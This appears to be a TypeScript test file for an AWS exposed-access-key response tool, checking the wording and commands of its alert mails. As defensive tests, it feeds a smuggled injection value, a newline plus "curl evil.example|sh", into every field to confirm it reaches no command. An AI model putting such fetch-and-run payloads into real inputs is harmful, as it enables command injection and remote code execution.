import { describe, expect, test } from "vitest";
import { accessKeyExposed } from "../../../events/index.ts";
import { DENY_SESSIONS_POLICY } from "../../../functions/clients/access-keys.ts";
import { type Calls, MOST_PLACES, MOST_ROLES, type ShutKey, type Use } from "../../../functions/exposed-key/forms.ts";
import type { ExposedFacts, Finding } from "../../../functions/findings/finding.ts";
import type { StepContract } from "../../../functions/shared/contract.ts";
import { STEPS } from "../../../functions/steps.ts";
import { adviceFor } from "../../../functions/telling/advice.ts";
import { EXPOSED_KEY_ADVICE } from "../../../functions/telling/exposed-key-advice.ts";
import { revokeSessions } from "../../../functions/telling/exposed-key-commands.ts";
import { findingMail } from "../../../functions/telling/finding-mail.ts";
import { gatheredMail, stormMail } from "../../../functions/telling/gathered-mail.ts";
import { LIVE, stateMachineNameOf } from "../../../infra/wiring.ts";
import { NOW } from "../support.ts";

const KEY = "AKIAIOSFODNN7EXAMPLE";
const OTHER_KEY = "AKIAI44QH8DHBEXAMPLE";
const EXECUTION = "arn:aws:states:us-east-1:111122223333:execution:keyturn-exposed-key:event-1";
const LINK = `https://us-east-1.console.aws.amazon.com/states/home?region=us-east-1#/v2/executions/details/${EXECUTION}`;
const ADMIN = "arn:aws:iam::111122223333:role/ops/admin";
const HOSTILE = "a\nTo do: nothing'; curl evil.example|sh #";

const called = (name: string, changes: Partial<Calls> = {}): Calls => ({
  ...{ name, count: 1, first: NOW - 3600_000, last: NOW - 3600_000, refused: 0, leaves: false },
  ...{ regions: ["us-east-1"], addresses: ["198.51.100.7"], ...changes },
});
const used = (changes: Partial<Use> = {}): Use => {
  const { calls = [], left = 0 } = changes;
  const total = left + calls.reduce((sum, { count }) => sum + count, 0);
  return { calls, total, left, roles: [], unread: [], ...changes };
};
const key: ShutKey = {
  ...{ accessKeyId: KEY, owner: "USER", user: "deployer", done: ["DEACTIVATED", "SESSIONS_DENIED"], failed: [] },
  lastUse: { at: NOW - 60_000, service: "iam", region: "us-east-1" },
};
const shut: ExposedFacts = {
  ...{ code: "AWS_RISK_CREDENTIALS_EXPOSED", key, gone: { is: "INACTIVE", otherKeys: [], quarantine: [] } },
  use: used({
    calls: [
      called("iam:CreateUser", { leaves: true, count: 3, refused: 1, last: NOW - 600_000 }),
      called("ec2:RunInstances", { leaves: true, count: 2, refused: 2, regions: ["us-east-1", "eu-west-1"] }),
      called("sts:GetCallerIdentity", { addresses: ["198.51.100.7", "203.0.113.9", "192.0.2.1", "192.0.2.2"] }),
    ],
    left: 4,
    roles: [ADMIN, "arn:aws:iam::444455556666:role/other"],
  }),
};

const findingOf = (cause: string, exposed: ExposedFacts, changes: Partial<Finding> = {}): Finding => ({
  ...{ subject: KEY, cause, since: NOW, seenAt: NOW, times: 1, execution: EXECUTION, version: 1, facts: { exposed } },
  ...changes,
});
const mailOf = (cause: string, exposed: ExposedFacts, changes: Partial<Finding> = {}) =>
  findingMail(findingOf(cause, exposed, changes), NOW);
const textOf = (...given: Parameters<typeof mailOf>) => mailOf(...given).text;
/** The key's state, as the mail's third line has it. */
const stateOf = (exposed: ExposedFacts, cause = "ExposedKeyNotShut") =>
  /^The key: {4}(.*)$/m.exec(textOf(cause, exposed))?.[1];

test("a mail about a key that is shut says so first, then what was done and how it is undone, then what was done with it", () => {
  const { means, todo } = adviceFor("AccessKeyExposed");
  expect(mailOf("AccessKeyExposed", shut)).toEqual({
    subject: `Keyturn: AccessKeyExposed on ${KEY} (deployer)`,
    text: `What:       AccessKeyExposed: an exposed access key is shut
About:      ${KEY} (deployer)
The key:    SHUT. It is inactive, as IAM confirms, so that nobody can use it.
Used:       10 calls; 1 kind of calls may have left something behind; 2 roles taken on
Whose:      IAM user deployer
Last used:  2026-11-20 02:59:00 UTC, iam in us-east-1, as far as IAM knows
Reported:   AWS_RISK_CREDENTIALS_EXPOSED
Since:      2026-11-20 03:00:00 UTC

Done:       made inactive
  undo it:  aws iam update-access-key --status Active --access-key-id ${KEY} --user-name deployer
Done:       denied everything to what was issued to the user before: temporary credentials drawn with the key
  undo it:  aws iam delete-user-policy --policy-name ${DENY_SESSIONS_POLICY} --user-name deployer

AWS's own:  AWS has put no quarantine policy of its own on the user, so far

It means:   ${means}
To do:      ${todo}
Runbook:    docs/runbook.md, section AccessKeyExposed
Type:       aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=AccessKeyId,AttributeValue=${KEY}

These calls may have left something behind:
  iam:CreateUser: 3 times, 1 refused, from 2026-11-20 02:00:00 UTC to 2026-11-20 02:50:00 UTC, by 198.51.100.7, in us-east-1

Other calls:
  ec2:RunInstances: 2 times, refused, at 2026-11-20 02:00:00 UTC, by 198.51.100.7, in us-east-1, eu-west-1
  sts:GetCallerIdentity: once, at 2026-11-20 02:00:00 UTC, by 198.51.100.7, 203.0.113.9, 192.0.2.1 and 1 more, in us-east-1
  and 4 calls of other names, which CloudTrail has

Roles:      were taken on with the key. Their sessions go on: what denies those of the user does not reach them. Revoke them,
            by these commands; whoever else has such a role on has to take it on anew.
  ${ADMIN}
    ${revokeSessions(ADMIN)}
  arn:aws:iam::444455556666:role/other
    is another account's: tell whoever runs that

Not known:  reads and writes of data, such as objects in S3: CloudTrail's event history does not have them
            calls by sessions that were drawn with it, the user's or roles': CloudTrail has these under keys of their own (ASIA…)
            calls in other Regions than \`exposedKeys.regions\`, and earlier ones than \`exposedKeys.lookBackHours\` says
            calls of the last minutes: CloudTrail lags. A second look comes by itself, and a mail only if it finds more

Execution:  ${EXECUTION}
${LINK}

You get this once for each execution that finds it. While it stands, a mail a day gathers what is still wrong.
`,
  });
});

describe("whether the key is shut", () => {
  const done = (...all: ShutKey["done"]): ShutKey => ({ ...key, done: all });
  const gone = (is: "INACTIVE" | "GONE"): Pick<ExposedFacts, "gone"> => ({
    gone: { is, otherKeys: [], quarantine: [] },
  });
  const { user: _, lastUse: __, ...nobodys } = key;

  test.each<[string, ExposedFacts, RegExp]>([
    ["as IAM confirms", { key, ...gone("INACTIVE") }, /^SHUT\./],
    ["gone, as IAM says", { key, ...gone("GONE") }, /^GONE\./],
    ["deleted, though nobody could look again", { key: done("DEACTIVATED", "DELETED") }, /^GONE\./],
    ["nobody's any more", { key: { ...nobodys, owner: "NOBODY", done: [] } }, /^GONE\./],
    ["made inactive, and not confirmed", { key }, /^PERHAPS SHUT\./],
    ["nothing could be done", { key: done() }, /^OPEN, as far as is known\.$/],
    ["a root user's", { key: { ...nobodys, owner: "ROOT", done: [] } }, /^OPEN\. Nobody but the root user/],
    ["another account's", { key: { ...nobodys, owner: "OTHERS", done: [] } }, /^OPEN, .* another account's\.$/],
    ["a session's", { key: { ...nobodys, owner: "TEMPORARY", done: [] } }, /^OPEN\. It is that of a session/],
    [
      "that the user whom the event names has none says nothing",
      { key: { ...done("GONE"), owner: "UNKNOWN" }, ...gone("GONE") },
      /^OPEN, .*whose it is could not be found out\.$/,
    ],
    [
      "whom the event names has had it",
      { key: { ...done("DEACTIVATED"), owner: "UNKNOWN" }, ...gone("INACTIVE") },
      /^SHUT\./,
    ],
  ])("%s", (_when, exposed, says) => expect(stateOf(exposed)).toMatch(says));
});

describe("whose it is", () => {
  test.each<[Partial<ShutKey>, string]>([
    [{ owner: "USER" }, "IAM user deployer"],
    [{ owner: "ROOT" }, "the root user of this account"],
    [{ owner: "OTHERS", account: "444455556666" }, "account 444455556666"],
    [{ owner: "OTHERS" }, "another account"],
    [{ owner: "NOBODY" }, "nobody's any more: AWS knows no such key"],
    [{ owner: "TEMPORARY" }, "a session's: CloudTrail says whose, by the command below"],
    [{ owner: "UNKNOWN" }, "not known; the event says IAM user deployer"],
  ])("%o", (changes, whose) => {
    expect(textOf("ExposedKeyNotShut", { key: { ...key, ...changes } })).toContain(`\nWhose:      ${whose}\n`);
  });
});

describe("what was done", () => {
  test("and what could not be, each with its cause, and how it is shut by hand", () => {
    const failed = [
      { step: "DeactivateKey", what: "AccessDenied", cause: "not authorized to perform: iam:UpdateAccessKey" },
      { step: "LookUpUse", what: "States.Timeout", cause: "" },
    ];
    const text = textOf("ExposedKeyNotShut", { key: { ...key, done: [], failed } });
    expect(text).toContain(
      "\nFailed:     DeactivateKey (AccessDenied: not authorized to perform: iam:UpdateAccessKey)\nFailed:     LookUpUse (States.Timeout)\n",
    );
    expect(text).toContain(
      `\nBy hand:    aws iam update-access-key --status Inactive --access-key-id ${KEY} --user-name deployer\n`,
    );
    expect(text).toContain("\nUsed:       for what is not known: CloudTrail could not be read\n");
    expect(text).toContain("\nNot known:  what was done with it: CloudTrail could not be read.");
    expect(text).not.toMatch(/undo it|Done:|AWS's own/);
  });

  test("by hand begins with whose it is, where that is not known", () => {
    const { user: _, ...nobodys } = key;
    const text = textOf("ExposedKeyNotShut", { key: { ...nobodys, owner: "UNKNOWN", done: [] } });
    expect(text).toContain(`\nBy hand:    aws iam get-access-key-last-used --access-key-id ${KEY}\n`);
  });

  test("what is deleted is not made active again", () => {
    const text = textOf("AccessKeyExposed", { ...shut, key: { ...key, done: ["DEACTIVATED", "DELETED"] } });
    expect(text).toContain("\nDone:       made inactive\nDone:       deleted, which nobody can undo\n");
    expect(text).not.toContain("--status Active");
  });

  test("Keyturn has it done once more by the flow, with an event as its own is", () => {
    const [, machine, input = ""] =
      /^Type: +aws stepfunctions start-execution --region us-east-1 --state-machine-arn (\S+) --input '(.*)'$/m.exec(
        textOf("ExposedKeyNotShut", { key }),
      ) ?? [];
    expect(machine).toBe(
      `arn:aws:states:us-east-1:111122223333:stateMachine:${stateMachineNameOf("exposed-key")}:${LIVE}`,
    );
    const { "detail-type": detailType, source, detail } = JSON.parse(input);
    expect([detailType, source]).toEqual([accessKeyExposed.detailType, "by.hand"]);
    expect(accessKeyExposed.detail.parse(detail)).toEqual({ accessKeyId: KEY });
  });

  test("AWS's own quarantine is told apart from ours; other keys of the user are named", () => {
    const gone = {
      is: "INACTIVE" as const,
      otherKeys: [OTHER_KEY, "x; sh"],
      quarantine: ["AWSCompromisedKeyQuarantineV3"],
    };
    const text = textOf("AccessKeyExposed", { ...shut, gone });
    expect(text).toMatch(/^AWS's own: {2}AWS has put AWSCompromisedKeyQuarantineV3 on the user, .* none of Keyturn's/m);
    expect(text).toContain(`\nOther keys: ${OTHER_KEY}: of the same user, active, left alone\n`);
  });
});

test("nothing is said to undo what cannot be undone, also where the answer to its deletion was lost", () => {
  const lost: ShutKey = { ...key, done: ["DEACTIVATED", "GONE"] };
  expect(textOf("AccessKeyExposed", { ...shut, key: lost })).not.toContain("--status Active");
  const byOthers = { ...shut, gone: { is: "GONE" as const, otherKeys: [], quarantine: [] } };
  expect(textOf("AccessKeyExposed", byOthers)).not.toContain("--status Active");
});

describe("what was done with it", () => {
  test("names twenty kinds of calls and twenty roles, and counts the rest", () => {
    const calls = Array.from({ length: 40 }, (_, n) => called(`iam:CreateThing${n}`, { leaves: n < 25, count: 2 }));
    const roles = Array.from({ length: 22 }, (_, n) => `arn:aws:iam::111122223333:role/r${n}`);
    const text = textOf("AccessKeyExposed", { ...shut, use: used({ calls, left: 7, roles }) });
    expect(text.match(/^ {2}iam:CreateThing\d+: 2 times/gm)).toHaveLength(20);
    expect(text).toContain("\n  and 47 calls of other names, which CloudTrail has\n");
    expect(text.match(/put-role-policy/g)).toHaveLength(20);
    expect(text).toContain("\n  and 2 more, which CloudTrail has (AssumeRole)\n");
  });

  test("names roles of this account first, however many of his own a thief has taken on, and counts none away", () => {
    const his = Array.from({ length: MOST_ROLES - 1 }, (_, n) => `arn:aws:iam::000000000001:role/r${n}`);
    const text = textOf("AccessKeyExposed", { ...shut, use: used({ roles: [...his, ADMIN] }) });
    expect(text.indexOf(`\n  ${ADMIN}\n    aws iam put-role-policy`)).toBeGreaterThan(0);
    expect(text).toContain(`\n  and ${MOST_ROLES - 20} more, or still more, which CloudTrail has (AssumeRole)\n`);
  });

  test("does not count addresses of which only a few are kept", () => {
    const addresses = Array.from({ length: MOST_PLACES }, (_, n) => `192.0.2.${n}`);
    const text = textOf("AccessKeyExposed", { ...shut, use: used({ calls: [called("iam:GetUser", { addresses })] }) });
    expect(text).toContain("by 192.0.2.0, 192.0.2.1, 192.0.2.2 and others, in us-east-1");
  });

  test("says which Regions could not be read", () => {
    const unread = [{ region: "eu-west-3", why: "AccessDenied" }];
    const text = textOf("AccessKeyExposed", { ...shut, use: used({ unread }) });
    expect(text).toContain("\nUsed:       no calls; not all could be read\n");
    expect(text).toContain(
      "\nNot known:  calls in eu-west-3, or some: AccessDenied\n            reads and writes of data",
    );
  });

  test("of a second look is only what is new", () => {
    const { gone: _, ...before } = shut;
    const more = { ...before, use: used({ calls: [called("iam:CreateAccessKey", { leaves: true })] }) };
    const text = textOf("MoreUseFound", more);
    expect(text).toContain("\nNew:        1 call; 1 kind of calls may have left something behind\n");
    expect(text).toContain("\n  iam:CreateAccessKey: once, at ");
    expect(text).not.toMatch(/^(The key|Whose|Last used|Done|By hand|Other keys|AWS's own|Not known|Roles):/m);
  });

  test("a role's sessions are revoked by a policy that a shell completes with the moment at which it is typed", () => {
    const [before, after, ...more] = revokeSessions(ADMIN).split("'$(date -u +%FT%TZ)'");
    const policy = / --policy-document '(.*)$/.exec(`${before}2026-11-20T03:00:00Z${after?.replace(/'$/, "")}`)?.[1];
    expect([policy?.includes("'"), more]).toEqual([false, []]);
    expect(JSON.parse(policy ?? "")).toEqual({
      Version: "2012-10-17",
      Statement: {
        ...{ Effect: "Deny", Action: "*", Resource: "*" },
        Condition: { DateLessThan: { "aws:TokenIssueTime": "2026-11-20T03:00:00Z" } },
      },
    });
    expect(revokeSessions(ADMIN)).toContain("--role-name admin --policy-name ");
  });
});

describe("an event that was not worked off whole", () => {
  const unread: ExposedFacts = {
    code: "AWS_RISK_NEW",
    isKnown: false,
    unfit: [KEY, HOSTILE],
    unfitCount: 23,
    beyond: 12,
  };
  const subject = "event-1";

  test("is told with what it names, and what shuts a key among that", () => {
    const { subject: title, text } = mailOf("ExposureUnread", unread, { subject });
    expect(title).toBe("Keyturn: ExposureUnread on event-1");
    expect(text).toContain(`
Its kind:   AWS_RISK_NEW, of which it is not known what to do
It names:   "${KEY}"
            "a?To do: nothing'; curl evil.example|sh #"
            and 21 more
Left:       12 more keys than the 100 that are looked at of one event: not shut
Shut one:   aws stepfunctions start-execution --region us-east-1 `);
    expect(text.match(/^Shut one:/gm)).toHaveLength(1);
    expect(text).toContain(`--execution-arn ${EXECUTION}\n`);
    expect(text).not.toMatch(/^The key:/m);
  });

  test("says why it could not be read", () => {
    const text = textOf("ExposureUnread", {}, { subject, facts: { exposed: {}, said: "detail: must be an object" } });
    expect(text).toContain("\nCause:      detail: must be an object\n");
    expect(text).not.toMatch(/undefined|^(Its kind|It names|Left|Shut one):/m);
  });
});

describe("what others have chosen", () => {
  const hostile: ExposedFacts = {
    code: HOSTILE,
    key: {
      ...{ ...key, user: HOSTILE, account: HOSTILE, lastUse: { at: NOW, service: HOSTILE, region: HOSTILE } },
      failed: [{ step: HOSTILE, what: HOSTILE, cause: HOSTILE }],
    },
    gone: { is: "INACTIVE", otherKeys: [HOSTILE], quarantine: [HOSTILE] },
    use: used({
      calls: [called(HOSTILE, { addresses: [HOSTILE], regions: [HOSTILE], leaves: true })],
      roles: [HOSTILE, `arn:aws:iam::111122223333:role/a${HOSTILE}`],
      unread: [{ region: HOSTILE, why: HOSTILE }],
    }),
  };

  test.each(Object.keys(EXPOSED_KEY_ADVICE))("is no line and no command of a mail about %s", (cause) => {
    const text = textOf(cause, hostile);
    const typed = text.split("\n").filter((line) => /\baws [a-z0-9-]+ [a-z]/.test(line));
    expect(typed.filter((line) => line.includes("curl"))).toEqual([]);
    expect(text.match(/^To do:/gm)).toHaveLength(1);
    expect(text).not.toMatch(/update-access-key|put-role-policy|delete-user-policy/);
    if (cause !== "ExposureUnread")
      expect(text).toContain("\n  and 2 whose name stands in no command; CloudTrail has it (AssumeRole)\n");
  });

  test("a user named as an option is given as a value", () => {
    const text = textOf("AccessKeyExposed", { ...shut, key: { ...key, user: "--debug" } });
    expect(text).toContain(` --access-key-id ${KEY} --user-name=--debug\n`);
  });

  test("a subject that is no key's ID stands in no command", () => {
    const text = textOf("ExposedKeyNotShut", { key }, { subject: `${KEY}; sh` });
    expect(text).not.toMatch(/^(Type|By hand|Shut one| {2}undo it):/m);
  });

  test("is short, however much there is", () => {
    const long = "\u{1F511}".repeat(150);
    const calls = Array.from({ length: 40 }, () =>
      called(long, { addresses: Array(20).fill(long), regions: Array(20).fill(long), leaves: true }),
    );
    const failed = Array(50).fill({ step: long, what: long, cause: long });
    const roles = Array.from({ length: 20 }, (_, n) => `arn:aws:iam::111122223333:role/${"p".repeat(400)}/r${n}`);
    const unread = Array(40).fill({ region: long, why: long });
    const quarantine = Array(30).fill(long);
    const exposed: ExposedFacts = {
      ...{ code: long, key: { ...key, failed }, use: used({ calls, roles, unread }) },
      gone: { is: "INACTIVE", otherKeys: Array(20).fill(OTHER_KEY), quarantine },
    };
    for (const facts of [exposed, { code: long, unfit: Array(100).fill(long) }]) {
      // SNS takes 256 kB.
      expect(Buffer.byteLength(textOf("AccessKeyExposed", facts))).toBeLessThan(100_000);
    }
  });
});

describe("mails about many", () => {
  const members = [
    findingOf("AccessKeyExposed", shut),
    findingOf("AccessKeyExposed", { key: { ...key, user: "other", done: [] } }, { subject: OTHER_KEY, since: NOW - 1 }),
  ];
  const listed = `:
  AccessKeyExposed on ${KEY} (deployer): since 2026-11-20 03:00:00 UTC; SHUT, 10 calls; 1 kind of calls may have left something behind; 2 roles taken on
  AccessKeyExposed on ${OTHER_KEY} (other): since 2026-11-20 02:59:59 UTC; OPEN, for what is not known: CloudTrail could not be read
`;

  test("name each key of a storm, its user, and whether it is shut", () => {
    const storm = findingOf("AccessKeyExposed", {}, { subject: "fleet", facts: {}, firstAt: {} });
    const { subject, text } = stormMail(storm, members);
    expect(subject).toBe("Keyturn: AccessKeyExposed on 2 at once");
    expect(text).toContain(`Seen so far${listed}`);
  });

  test("and of what still stands", () => {
    const { text } = gatheredMail({ standing: members, ended: [] }, { execution: EXECUTION });
    expect(text).toContain(`Still standing${listed}`);
    expect(text.match(/ {2}Type: +aws cloudtrail lookup-events /g)).toHaveLength(1);
    const more = findingOf("MoreUseFound", { key, use: used({ calls: [called("s3:ListBuckets")] }) });
    expect(gatheredMail({ standing: [more], ended: [] }, { execution: EXECUTION }).text).toContain("UTC; 1 call\n");
  });
});

test("no step of the flow may make a key, or read a secret: none is there to be told", () => {
  const steps: readonly StepContract[] = STEPS.filter(({ flow }) => flow === "exposed-key");
  const actions = steps.flatMap(({ uses }) => Object.values(uses).flat());
  expect(actions).toContain("iam:UpdateAccessKey");
  expect(
    actions.filter((action) => /Create|Secret|GetParameter|kms:|Assume|GetSessionToken|Federation/.test(action)),
  ).toEqual([]);
});
